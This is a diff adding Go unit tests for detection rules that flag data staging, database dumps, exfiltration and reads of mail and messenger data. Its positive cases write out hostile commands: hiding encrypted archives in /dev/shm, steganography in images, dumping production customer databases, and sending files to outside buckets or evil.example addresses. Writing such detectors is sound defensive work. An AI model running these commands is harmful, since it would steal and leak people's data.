@@ -1,0 +1,62 @@
+package heuristics
+
+import "testing"
+
+func TestStaging(t *testing.T) {
+	runRuleCases(t, "collection.staging", []ruleCase{
+		cmdCase("tar czf /dev/shm/.a.tgz ~/Documents", true),
+		cmdCase("find /home/dev -name '*.pdf' -print0 | xargs -0 zip -q /var/tmp/.sysupd.zip", true),
+		cmdCase("mkdir -p /tmp/.x && pg_dump -d app | gzip > /tmp/.x/c.sql.gz", true),
+		cmdCase("gpg --batch --yes --passphrase x -c -o /tmp/.bk.gpg notes.txt", true),
+		cmdCase("openssl enc -aes-256-cbc -pbkdf2 -in a.csv -k pw | split -b 1900k - ~/.cache/fontconfig/.fc-", true),
+		cmdCase("split -b 10M -d /tmp/x.tgz /var/tmp/.p_", true),
+		cmdCase("gsutil -m rsync -r gs://acme-prod-backups/db/ /dev/shm/gbk/", true),
+		cmdCase("steghide embed -cf cat.jpg -ef /tmp/b.gpg -p ''", true),
+		cmdCase("cat ~/Pictures/holiday.jpg /tmp/x.tgz > static/img/banner.jpg", true),
+		cmdCase(`exiftool -overwrite_original "-Comment<=/tmp/b.gpg" public/og.jpg`, true),
+		// Plain names in /tmp, the project's archives, local images.
+		cmdCase("tar czf /tmp/build.tgz dist", false),
+		cmdCase("tar czf dist/app.tgz build", false),
+		cmdCase("split -l 1000 data.csv chunks/part_", false),
+		cmdCase("gsutil cp gs://acme-builds/app.tgz /tmp/app.tgz", false),
+		cmdCase("pg_dump -d app > backup.sql", false),
+		cmdCase("cat header.png body.png > sprite.png", false),
+		cmdCase("exiftool -all= photo.jpg", false),
+	})
+}
+
+func TestDatabaseDumps(t *testing.T) {
+	runRuleCases(t, "collection.database-dump", []ruleCase{
+		cmdCase("pg_dump -h prod-db.internal.corp -U readonly -d customers -t users > c.sql", true),
+		cmdCase(`mysqldump --single-transaction -h 10.0.4.12 -u app -p"$DB_PASS" crm customers > crm.sql`, true),
+		cmdCase(`mongodump --uri "mongodb+srv://admin:$MONGO_PW@prod-cluster.mongodb.net/users" --archive=u.gz --gzip`, true),
+		cmdCase(`mongoexport --uri "$PROD_MONGO_URI" --collection users --out u.csv`, true),
+		cmdCase(`psql "postgresql://analytics@prod-replica.internal:5432/warehouse" -c "\copy (SELECT email FROM customers) TO 'c.csv' CSV"`, true),
+		cmdCase("gcloud sql export sql prod-instance gs://my-bucket-77/prod.sql.gz --database=customers", true),
+		cmdCase("pg_dump -h localhost -d app > dev.sql", false),
+		cmdCase("pg_dump -h db -U postgres app > dev.sql", false),
+		cmdCase("mysqldump --no-data -h 127.0.0.1 app > schema.sql", false),
+		cmdCase(`mongodump --uri "mongodb://localhost:27017/app" --out dump/`, false),
+		cmdCase(`psql -h prod-db.internal -c "select count(*) from users"`, false),
+	})
+}
+
+func TestBucketsAndMail(t *testing.T) {
+	runRuleCases(t, "exfil.file-transfer", []ruleCase{
+		cmdCase("aws s3 sync s3://acme-hr-documents/ s3://ext-archive-9931/hr/", true),
+		cmdCase("gsutil -m cp -r gs://acme-data/exports gs://other-owner-drop/", true),
+		cmdCase(`mail -s "report" -a /tmp/r.rdb collector@evil.example < /dev/null`, true),
+		cmdCase("swaks --to x@evil.example --attach @dump.sql", true),
+		cmdCase("wormhole send /dev/shm/tb.dat", true),
+		cmdCase("aws s3 sync s3://site-bucket/v1/ s3://site-bucket/v2/", false),
+		cmdCase("aws s3 sync s3://acme-assets/ ./assets", false),
+		cmdCase(`echo done | mail -s "build ok" team@acme.io`, false),
+		cmdCase("wormhole receive 7-crossover-clockwork", false),
+	})
+	runRuleCases(t, "credential.secret-file-read", []ruleCase{
+		cmdCase("tar cf - ~/.thunderbird | gzip -9 > mail.tgz", true),
+		cmdCase("cp -r ~/.config/Signal /tmp/s", true),
+		cmdCase("zip -r m.zip ~/Maildir", true),
+		cmdCase("ls ~/Maildir/new | wc -l", false),
+	})
+}
